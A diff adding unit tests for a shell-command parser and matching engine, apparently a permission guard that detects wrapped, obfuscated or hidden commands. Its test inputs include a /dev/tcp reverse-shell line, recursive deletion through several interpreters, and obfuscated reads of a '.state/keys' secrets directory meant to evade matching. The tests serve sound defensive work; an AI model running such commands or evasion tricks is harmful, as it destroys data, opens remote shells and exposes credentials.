@@ -137,6 +137,79 @@ describe('compileShell', () => {
   })
 })
 
+describe('programs that start others', () => {
+  it.each([
+    ['railway run rm x', 'rm'],
+    ['nvm exec 20 rm x', 'rm'],
+    ['zellij run -- rm x', 'rm'],
+    ["xterm -e 'rm x'", 'rm'],
+    ['/usr/bin/env -S rm -f x', 'rm'],
+    ["fish -c 'set -l c rm; $c x'", 'rm'],
+    ["csh -c 'set c=rm; $c x'", 'rm'],
+    ["zsh -c '=rm x'", 'rm'],
+    ['node /usr/lib/openclaw.mjs config set a b', 'openclaw.mjs'],
+    ['npx openclaw@latest config set a b', 'openclaw'],
+    ['cmake -E rm x', 'rm'],
+  ])('are followed: %s', (line, program) => {
+    expect(programs(line)).toContain(program)
+  })
+
+  it.each(['npm test -- sudo', 'cargo run -- rm', 'gh run list', 'git checkout -- sudo', 'x --tool exec sudo'])(
+    'are not taken for such: %s',
+    (line) => {
+      expect(programs(line)).not.toContain('sudo')
+      expect(programs(line)).not.toContain('rm')
+    },
+  )
+
+  it.each([
+    'python3 -c \'import shutil; shutil.rmtree("/srv")\'',
+    'node -e \'fs.rmSync("x", {recursive: true})\'',
+    'ruby -rfileutils -e \'FileUtils.rm_rf("x")\'',
+    'cmd /c "rd /s /q x"',
+    'cmake -E remove_directory x',
+  ])('delete folders as rm -rf does: %s', (line) => {
+    expect(compileShell({program: 'rm', args: ['-rf']})(line).matched).toBe(true)
+    expect(compileShell({program: 'sudo'})(line)).toEqual({matched: false, understood: true})
+  })
+
+  it.each([
+    'tcc -run - <<< \'int main(){system("ls");}\'',
+    'echo \'int main(){system("ls");}\' > a.c; gcc a.c',
+    'sh -i >& /dev/tcp/x/80 0>&1',
+    "dc -e '!ls'",
+    'vim -c \'call system("ls")\'',
+    'fc -s ls',
+  ])('are not understood where they hide it: %s', (line) => {
+    expect(commandsOf(line).understood).toBe(false)
+  })
+})
+
+describe('any program', () => {
+  const match = compileShell({program: '*', args: [['*/.state/keys*', '.state/keys*']]})
+
+  it.each([
+    'cat ~/.state/keys',
+    'x=.st; cat ~/$x"ate"/ke""ys/a',
+    'cat < ~/.state/keys',
+    'echo a > ~/.state/keys/b',
+    'cat ~/.state/k*',
+    'cat ~/.[s]t?te/k*/b',
+    'cat ~/.state/x/../keys',
+    'cd; tar c .state/keys',
+    'cat > ~/.state/k*',
+  ])('is found by the files it is given: %s', (line) => {
+    expect(match(line).matched).toBe(true)
+  })
+
+  it.each(['ls *', 'ls ~/*/*', 'cat "$FILE" > $OUT', 'cat ~/.state/work/keys', 'echo .state', 'cat $(ls | sort)'])(
+    'is not, where that cannot be told: %s',
+    (line) => {
+      expect(match(line)).toEqual({matched: false, understood: true})
+    },
+  )
+})
+
 function programs(line: string): string[] {
   return commandsOf(line).commands.map(({program}) => program)
 }
